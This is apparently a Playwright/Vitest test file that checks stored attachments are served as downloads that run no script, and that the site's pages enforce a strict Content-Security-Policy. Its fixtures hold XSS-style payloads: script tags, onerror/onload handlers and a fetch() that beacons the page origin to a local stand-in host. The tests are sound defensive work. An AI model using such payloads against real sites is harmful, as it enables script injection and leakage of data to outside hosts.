import type { Browser, BrowserContext } from "playwright";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { launchBrowser, newContext } from "#tests/support/browser/browser.ts";
import { base64, owner } from "#tests/support/server/api.ts";
import { type Listening, listen } from "#tests/support/stand-ins/listen.ts";

let browser: Browser;
let context: BrowserContext;
/** Another site, which embeds our files and records every script that runs. */
let site: Listening;
const heard: string[] = [];
let page = "";

beforeAll(async () => {
  browser = await launchBrowser();
  context = await newContext(browser, { acceptDownloads: true });
  site = await listen((request, response) => {
    if (request.url?.startsWith("/heard")) heard.push(request.url);
    response.writeHead(200, { "Content-Type": "text/html", "Access-Control-Allow-Origin": "*" }).end(page);
  });
});
afterAll(async () => {
  await browser.close();
  await site.stop();
});

const script = (name: string) =>
  `fetch("${site.url}/heard/${name}?"+location.origin,{mode:"no-cors"});try{parent.postMessage("ran","*")}catch{}`;
const FILES: Record<string, { content_type: string; content: (name: string) => string }> = {
  html: {
    content_type: "text/html",
    content: (name) => `<!doctype html><script>${script(name)}</script><img src=x onerror='${script(name)}'>`,
  },
  xhtml: {
    content_type: "application/xhtml+xml",
    content: (name) => `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${script(name)}]]></script></html>`,
  },
  svg: {
    content_type: "image/svg+xml",
    content: (name) =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload='${script(name)}'><script><![CDATA[${script(name)}]]></script></svg>`,
  },
  xml: {
    content_type: "text/xml",
    content: (name) =>
      `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script><![CDATA[${script(name)}]]></h:script></x>`,
  },
  "html-as-text": { content_type: "text/plain", content: (name) => `<html><script>${script(name)}</script></html>` },
  "html-of-no-type": {
    content_type: "application/octet-stream",
    content: (name) => `<html><script>${script(name)}</script></html>`,
  },
};

async function stored(name: string): Promise<string> {
  const file = FILES[name];
  if (!file) throw new Error(`there is no file ${name}`);
  const { content_type, content } = file;
  const attachments = [{ filename: `a.${name}`, content_type, content_base64: base64(content(name)) }];
  const { id } = await owner().created({ attachments, to: "stuck@example.com" });
  const [{ download_url } = { download_url: "" }] = (await owner().detail(id)).attachments;
  return download_url;
}

describe("stored files", () => {
  const urls = new Map<string, string>();
  beforeAll(async () => {
    for (const name of Object.keys(FILES)) urls.set(name, await stored(name));
  });

  test.each(Object.keys(FILES))("a stored file of kind %s is saved when opened, and runs no script", async (name) => {
    const opened = await context.newPage();
    const download = opened.waitForEvent("download");
    const refused = (error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED/);
    await opened.goto(urls.get(name) ?? "").catch(refused);
    const saved = await download;
    expect(saved.suggestedFilename()).toBe(`a.${name}`);
    expect(await saved.failure()).toBeNull();
    await opened.close();
    expect(heard).toEqual([]);
  });

  test("a stored file runs no script in frames and objects of another site", async () => {
    const embedded = [...urls.values()].map(
      (url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><img src="${url}">`,
    );
    page = `<!doctype html><script>onmessage = (event) => { if (event.data === "ran") document.title = "ran" }</script>
      ${embedded.join("")}`;
    const opened = await context.newPage();
    await opened.goto(site.url);
    await opened.waitForTimeout(500);
    expect(await opened.title()).toBe("");
    await opened.close();
    expect(heard).toEqual([]);
  });
});

test("the same files run scripts when served without our headers", async () => {
  page = FILES.html?.content("control") ?? "";
  const opened = await context.newPage();
  await opened.goto(site.url);
  await expect.poll(() => heard.length).toBeGreaterThan(0);
  expect(heard[0]).toBe(`/heard/control?${site.url}`);
  await opened.close();
});

describe("our own pages", () => {
  const paths = async () => {
    const { id } = await owner().created({ body_html: "<p style='color:red'>Hola</p>" });
    await owner().sealed(id);
    return ["/", "/nowhere", "/docs", `/verify/${id}`, "/verify/nothing"];
  };

  test("our pages have a script policy that blocks none of their own scripts", async () => {
    for (const path of await paths()) {
      const opened = await context.newPage();
      const refused: string[] = [];
      opened.on("console", (message) => {
        if (/Content Security Policy|Content-Security-Policy/.test(message.text())) refused.push(message.text());
      });
      const answer = await opened.goto(inject("api").url + path);
      await opened.waitForTimeout(150);
      const policy = answer?.headers()["content-security-policy"] ?? "";
      expect(policy, path).toMatch(/(^|; )default-src 'none'/);
      expect(policy, path).toMatch(/(^|; )script-src 'self'( 'nonce-[\w-]{24}' 'strict-dynamic')?(;|$)/);
      for (const name of ["base-uri 'none'", "frame-ancestors 'none'"]) expect(policy, path).toContain(name);
      expect(refused, path).toEqual([]);
      await opened.close();
    }
  });

  test("our pages run no script injected into their HTML", async () => {
    const content = base64(`window.ran = "stored"; ${script("stored")}`);
    const attachments = [{ filename: "a.js", content_type: "text/javascript", content_base64: content }];
    const { id } = await owner().created({ attachments });
    const [{ download_url } = { download_url: "" }] = (await owner().detail(id)).attachments;
    const address = new URL(download_url).pathname;
    const injected = `<script>window.ran = "inline"</script><img src="/nothing.png" onerror="window.ran = 'handler'">
      <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><script src="${site.url}/x.js"></script>
      <base href="${site.url}"><object data="${address}"></object><script src="${address}"></script>
      <script type="module" src="${address}"></script><script>navigator.serviceWorker.register("${address}")</script>`;
    page = 'window.ran = "foreign"';
    heard.length = 0;
    for (const path of await paths()) {
      const opened = await context.newPage();
      await opened.route(inject("api").url + path, async (route) => {
        const response = await route.fetch();
        const text = await response.text();
        expect(text).toContain("</body>");
        await route.fulfill({ response, body: text.replace("</body>", `${injected}</body>`) });
      });
      await opened.goto(inject("api").url + path);
      await opened.waitForTimeout(150);
      expect(await opened.evaluate("window.ran ?? 'nothing'"), path).toBe("nothing");
      expect(await opened.evaluate("document.querySelectorAll('script[src$=\".js\"], object').length > 1"), path).toBe(
        true,
      );
      await opened.close();
    }
    expect(heard).toEqual([]);
  });
});
